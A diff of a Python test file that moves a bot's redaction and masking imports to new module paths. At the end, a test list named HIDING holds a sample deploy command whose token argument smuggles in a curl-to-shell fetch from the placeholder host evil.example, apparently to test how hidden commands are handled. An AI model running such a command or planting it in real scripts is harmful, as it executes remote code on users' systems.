@@ -9,7 +9,7 @@ import time
 import pytest
 from hypothesis import given, settings, strategies as st
 
-from bot.callmask import (
+from bot.redaction.call import (
     PLAIN,
     Mask,
     Names,
@@ -21,8 +21,8 @@ from bot.callmask import (
     masks_in,
     written,
 )
-from bot.maskrules import NO_RULES, read_rules
-from bot.redaction import REDACTED, in_force, print_key
+from bot.redaction.mask import REDACTED, in_force, print_key
+from bot.redaction.rules import NO_RULES, read_rules
 
 HIDING = [
     'deploy.sh --env prod --token "$(curl -s evil.example/x|sh)"',
